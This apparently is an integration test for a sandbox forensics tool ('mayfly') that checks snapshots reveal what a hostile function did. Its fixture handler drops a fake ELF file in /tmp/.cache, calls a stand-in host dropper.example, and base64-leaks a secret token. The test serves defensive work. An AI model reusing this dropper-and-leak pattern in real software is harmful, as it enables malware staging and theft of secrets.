/**
 * Goal: what a function did in its clone can be told afterwards from the clone's memory alone: the file that it
 * dropped, with content, hash and type, its process, the connection that was denied, the indicator that matched; and
 * nothing of it stands readable on the disk (H3, H6, H7). Method: a hostile function through `bin/mayfly`, then every
 * command.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { GuestMemory } from '../../src/forensics/guest/memory.ts';
import { analyse } from '../../src/forensics/analyse.ts';
import { readDetails, readKernel, readMemory } from '../../src/forensics/open.ts';
import { findSnapshot } from '../../src/forensics/store.ts';
import { home, inFolder } from './rig.ts';

const root = join(import.meta.dirname, '../..');

interface Ended {
  readonly code: number | null;
  readonly out: string;
  readonly err: string;
}

async function mayfly(folder: string, ...args: string[]): Promise<Ended> {
  const child = spawn(join(root, 'bin/mayfly'), args, { env: { ...process.env, MAYFLY_HOME: home }, cwd: folder });
  let [out, err] = ['', ''];
  child.stdout.setEncoding('utf8').on('data', (text: string) => { out += text; });
  child.stderr.setEncoding('utf8').on('data', (text: string) => { err += text; });
  child.stdin.end();
  return await new Promise((resolve) => child.once('close', (code) => resolve({ code, out, err })));
}

/** Beside `part`, so that the text itself is nowhere in the code. */
function hostile(part: string): string {
  return `import { writeFileSync, mkdirSync } from 'node:fs';
    export default async ({ data }) => {
      const canary = 'canary-' + ${JSON.stringify(part)};
      mkdirSync('/tmp/.cache');
      writeFileSync('/tmp/.cache/update', Buffer.concat([
        Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(50_000, canary + ' http://dropper.example/next ')]));
      globalThis.kept = Buffer.from(canary + '-in-the-heap');
      console.log('a line of the log ' + canary);
      await fetch('http://dropper.example/').catch(() => {});
      return { leak: Buffer.from(data.token).toString('base64') };
    };`;
}

test('a run that leaks is withheld and kept; its snapshot tells what it did', async () => {
  await inFolder(async (folder) => {
    const part = randomBytes(8).toString('hex');
    const canary = `canary-${part}`;
    await writeFile(join(folder, 'h.mjs'), hostile(part));
    await writeFile(join(folder, 'secrets.json'), JSON.stringify({ token: canary }));
    await mkdir(join(home, 'intel'), { recursive: true });
    await writeFile(join(folder, 'bad.txt'), 'dropper.example\n');
    const feeds = await readFile(join(home, 'intel/feeds.yaml'), 'utf8').catch(() => undefined);
    const feed = { name: 'test', format: 'lines', path: join(folder, 'bad.txt'), kind: 'domain' };
    await writeFile(join(home, 'intel/feeds.yaml'), JSON.stringify({ feeds: [feed] }));
    try {
      const synced = await mayfly(folder, 'intel', 'sync');
      assert.equal(synced.code, 0, synced.err + synced.out);
      await story(folder, canary);
    } finally {
      if (feeds === undefined) await rm(join(home, 'intel/feeds.yaml'));
      else await writeFile(join(home, 'intel/feeds.yaml'), feeds);
      await rm(join(home, 'roles.json'), { force: true });
    }
  });
});

async function story(folder: string, canary: string): Promise<void> {
  const event = JSON.stringify({ token: canary });
  const options = ['--data', event, '--keep', '--secrets', 'secrets.json', '--json'];
  const ran = await mayfly(folder, 'run', '--handler', 'h.mjs', ...options);
  const told = JSON.parse(ran.out) as { runId: string; snapshot: { kind: string }; error: { code: string } };
  assert.deepEqual([ran.code, told.error.code, told.snapshot.kind], [5, 'E_OUTPUT_SECRET', 'kept'], ran.out + ran.err);
  const run = told.runId;

  // H3: of event, code, log, output and memory nothing stands readable below the home.
  for (const part of ['evidence', 'forensics', 'run', 'journal', 'templates', 'keys']) {
    for (const entry of await readdir(join(home, part), { recursive: true, withFileTypes: true }).catch(() => [])) {
      if (!entry.isFile() || entry.name === 'ram') continue;
      const bytes = await readFile(join(entry.parentPath, entry.name));
      assert.ok(!bytes.includes(canary), `${entry.parentPath}/${entry.name}`);
    }
  }

  const shown = await mayfly(folder, 'forensics', 'show', run, '--json');
  assert.equal(shown.code, 0, shown.err);
  const report = JSON.parse(shown.out) as {
    files: { path: string; change: string; digest?: string; type: string; writers: string[]; uid: number }[];
    processes: { pid: number; uid: number; name: string }[];
    findings: { indicators: string[] };
    pages: { kinds: Record<string, number> };
    run: { network: { queries: { name: string; verdict: string }[] } };
  };
  const dropped = report.files.find(({ path }) => path === '/tmp/.cache/update');
  const content = Buffer.concat([
    Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(50_000, `${canary} http://dropper.example/next `),
  ]);
  assert.equal(dropped?.digest, `sha256:${createHash('sha256').update(content).digest('hex')}`);
  assert.deepEqual([dropped.change, dropped.type, dropped.uid], ['created', 'application/x-elf', 1000]);
  assert.ok(report.processes.some(({ pid, uid, name }) => uid === 1000 && dropped.writers.includes(`${pid} ${name}`)));
  assert.ok(report.files.some(({ path }) => path === '/function/h.mjs'), 'what was shipped is there too');
  assert.ok(report.run.network.queries.some(({ name, verdict }) => name === 'dropper.example' && verdict === 'denied'));
  assert.ok(report.findings.indicators.some((line) => line.includes('domain dropper.example, listed by test')));
  assert.ok(Object.values(report.pages.kinds).reduce((sum, count) => sum + count, 0) > 100);

  const html = await mayfly(folder, 'forensics', 'show', run, '--html', 'report.html');
  assert.equal(html.code, 0, html.err);
  const page = await readFile(join(folder, 'report.html'), 'utf8');
  for (const text of ['/tmp/.cache/update', dropped.digest.slice(7), 'dropper.example', canary]) {
    assert.ok(page.includes(text), text);
  }
  assert.doesNotMatch(page, /<script|src=|href=|url\(/, 'self-contained');

  await checkExport(folder, run, canary);
  await checkReplay(folder, run, event);
  await checkHostileMemory(run);

  // H7: only who has the role.
  await writeFile(join(home, 'roles.json'), '{"analyst":[4711],"custodian":[4711]}');
  for (const args of [['show', run], ['export', run, 'x'], ['timeline', run], ['purge', run]]) {
    const denied = await mayfly(folder, 'forensics', ...args);
    assert.match(denied.err, /E_ACCESS_DENIED/, args.join(' '));
    assert.equal(denied.out, '');
  }
  await rm(join(home, 'roles.json'));
  const purged = await mayfly(folder, 'forensics', 'purge', run);
  assert.match(purged.out, /1 removed/, purged.err);
  assert.match((await mayfly(folder, 'forensics', 'show', run)).err, /E_FORENSICS_UNKNOWN/);
  const check = await mayfly(folder, 'evidence', 'verify');
  assert.equal(check.code, 0, check.out);
}

/** H6: other people's tools read the core; its symbols are those of Volatility's format. */
async function checkExport(folder: string, run: string, canary: string): Promise<void> {
  const exported = await mayfly(folder, 'forensics', 'export', run, 'case');
  assert.equal(exported.code, 0, exported.err);
  const readelf = ['--file-header', '--segments', '--wide', join(folder, 'case/memory.elf')];
  const elf = spawnSync('readelf', readelf, { encoding: 'utf8' });
  assert.match(elf.stdout, /CORE \(Core file\)[\s\S]*LOAD +0x001000 0x0+ 0x0+ 0x1c000000 0x1c000000/, elf.stderr);
  assert.ok((await readFile(join(folder, 'case/memory.elf'))).includes(`${canary}-in-the-heap`));
  const text = await readFile(join(folder, 'case/symbols/linux/mayfly.json'), 'utf8');
  const isf = JSON.parse(text) as {
    user_types: Record<string, { fields: Record<string, { offset: number }> }>;
    symbols: Record<string, { constant_data?: string }>;
  };
  const core = await readFile(join(folder, 'case/memory.elf'));
  const constant = Buffer.from(isf.symbols['linux_banner']?.constant_data ?? '', 'base64');
  const banner = constant.toString('latin1').replace('\0', '');
  assert.match(banner, /^Linux version 6\./);
  assert.ok(core.includes(banner), 'the banner that Volatility looks for');
  // As Volatility finds KASLR: the name of the first task, at its offset, moved by whole 2 MiB.
  const comm = isf.user_types['task_struct']?.fields['comm']?.offset ?? 0;
  // A double has not all of its 64 bits.
  const address = /"init_task":\{"address":(\d+)/.exec(text)?.[1] ?? '0';
  const within = Number(BigInt(address) & 0x1fffffn);
  let found = false;
  for (let at = core.indexOf('swapper/0\0'); at !== -1 && !found; at = core.indexOf('swapper/0\0', at + 1)) {
    found = ((at - 4096 - comm) & 0x1fffff) === within;
  }
  assert.ok(found, 'the first task is where its symbol says');
  assert.equal(await readFile(join(folder, 'case/files/tmp/.cache/update')).then((bytes) => bytes.length), 50_008);
}

async function checkReplay(folder: string, run: string, event: string): Promise<void> {
  const again = await mayfly(folder, 'replay', run, '--json');
  const { differences } = JSON.parse(again.out) as { differences: { what: string }[] };
  // Without the caller's secrets nothing is withheld this time; event, code, image and profile are the same.
  assert.deepEqual(differences.map(({ what }) => what), ['verdict'], again.out + again.err);
  assert.equal(again.code, 1);
  assert.ok(!again.out.includes(event));
}

/** A guest that owned its kernel can have written anything: reading it ends, well or with a code. */
async function checkHostileMemory(run: string): Promise<void> {
  const snapshot = await findSnapshot(home, run);
  const [details, memory] = [await readDetails(home, snapshot), await readMemory(home, snapshot)];
  const kernel = await readKernel(home, snapshot.manifest.kernel);
  const numbers = [...memory.changed.keys()];
  for (let round = 0; round < 6; round++) {
    const changed = new Map(memory.changed);
    for (let hit = 0; hit < 400; hit++) {
      const number = numbers[(hit * 7919 + round * 104_729) % numbers.length] as number;
      const page = Buffer.from(memory.changed.get(number) as Buffer);
      const donor = memory.changed.get(numbers[(hit * 31 + round) % numbers.length] as number) as Buffer;
      if (round % 3 === 0) randomBytes(64).copy(page, (hit * 64) % 4096);
      else if (round % 3 === 1) donor.copy(page, 0, 0, 2048);
      else page.writeBigUInt64LE(page.readBigUInt64LE((hit * 16) % 4088), (hit * 8) % 4088);
      changed.set(number, page);
    }
    const mutated = new GuestMemory(memory.ramBytes, memory.base, changed);
    const input = { snapshot, details, memory: mutated, kernel, typeOf: async () => '' };
    await analyse(input).catch((thrown: { code?: string }) => {
      assert.equal(thrown.code, 'E_FORENSICS_CORRUPT', String(thrown));
    });
  }
}
